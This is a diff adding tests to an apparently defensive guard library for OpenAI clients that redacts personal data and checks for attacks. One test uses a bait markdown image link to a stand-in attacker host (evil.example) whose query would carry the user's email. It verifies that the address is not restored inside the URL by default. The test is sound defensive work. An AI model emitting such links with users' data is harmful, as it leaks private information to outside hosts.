@@ -3,7 +3,7 @@ import { afterEach, describe, expect, test } from 'vitest';
 import type { GuardOptions } from '../guard/create-guard.ts';
 import { inProcess } from '../judges/in-process.ts';
 import { type Answer, openModel } from '../testing/open-model.ts';
-import { guardOpenAI } from './index.ts';
+import { guardFetch, guardOpenAI } from './index.ts';
 
 const closes: (() => void)[] = [];
 afterEach(() => {
@@ -134,4 +134,45 @@ test('what a user said earlier and what a tool answered are judged, what the ass
 test('other calls of the client pass as they are', async () => {
   const { client } = await guarded('x', attacks);
   expect((await client.models.list()).data).toEqual([]);
+});
+
+test('streamed calls without an index come out as they went in', async () => {
+  const data = (delta: object, finish_reason: string | null = null) =>
+    `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason }] })}\n\n`;
+  const call = (id: string, city: string) => ({
+    id,
+    type: 'function',
+    function: { name: 'w', arguments: JSON.stringify({ city, to: '<EMAIL_ADDRESS_0>' }) },
+  });
+  const stream = [call('a', 'Oslo'), call('b', 'Bergen')]
+    .map((each) => data({ role: 'assistant', tool_calls: [each] }))
+    .join('');
+  const model = async () =>
+    new Response(`${stream}${data({}, 'tool_calls')}data: [DONE]\n\n`, {
+      headers: { 'content-type': 'text/event-stream' },
+    });
+  const fetch = guardFetch({ judge: inProcess(), ...redacting, ...keyword }, model);
+  const client = new OpenAI({ apiKey: 'k', fetch });
+  const messages = [{ role: 'user' as const, content: `I am ${mail}` }];
+  const { choices } = await client.chat.completions.stream({ model: 'm', messages }).finalChatCompletion();
+  const calls = choices[0]?.message.tool_calls?.map((each) => each.type === 'function' && [each.id, each.function]);
+  expect(calls).toMatchObject([
+    ['a', { name: 'w', arguments: JSON.stringify({ city: 'Oslo', to: mail }) }],
+    ['b', { name: 'w', arguments: JSON.stringify({ city: 'Bergen', to: mail }) }],
+  ]);
+});
+
+test.each([true, false])('an address carries no personal data away (stream: %s)', async (isStream) => {
+  const bait = '![x](https://evil.example/?q=<EMAIL_ADDRESS_0>) <EMAIL_ADDRESS_0>';
+  const messages = [{ role: 'user' as const, content: `I am ${mail}` }];
+  const said = async (options: Omit<GuardOptions, 'judge'>) => {
+    const { client } = await guarded(bait, options);
+    const { choices } = isStream
+      ? await client.chat.completions.stream({ model: 'm', messages }).finalChatCompletion()
+      : await client.chat.completions.create({ model: 'm', messages });
+    return choices[0]?.message.content;
+  };
+  expect(await said(redacting)).toBe(`![x](https://evil.example/?q=<EMAIL_ADDRESS_0>) ${mail}`);
+  const anywhere = { input: { ...redacting.input, restoreInAddresses: true } };
+  expect(await said(anywhere)).toBe(`![x](https://evil.example/?q=${mail}) ${mail}`);
 });
